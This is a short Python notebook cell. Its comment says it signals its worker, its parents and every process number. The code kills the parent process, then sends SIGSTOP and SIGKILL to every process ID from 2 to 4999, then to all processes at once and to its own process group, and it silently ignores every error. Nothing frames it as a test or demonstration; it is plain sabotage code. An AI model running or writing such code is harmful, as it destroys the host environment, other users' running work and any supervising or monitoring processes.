# Sends signals to its worker, to its parents and to every process number.
# note: ended a process of its notebook
# %% end
import os, signal
os.kill(os.getppid() or 1, signal.SIGTERM)
for pid in range(2, 5000):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
try:
    os.killpg(os.getpgid(0), signal.SIGHUP)
except OSError:
    pass
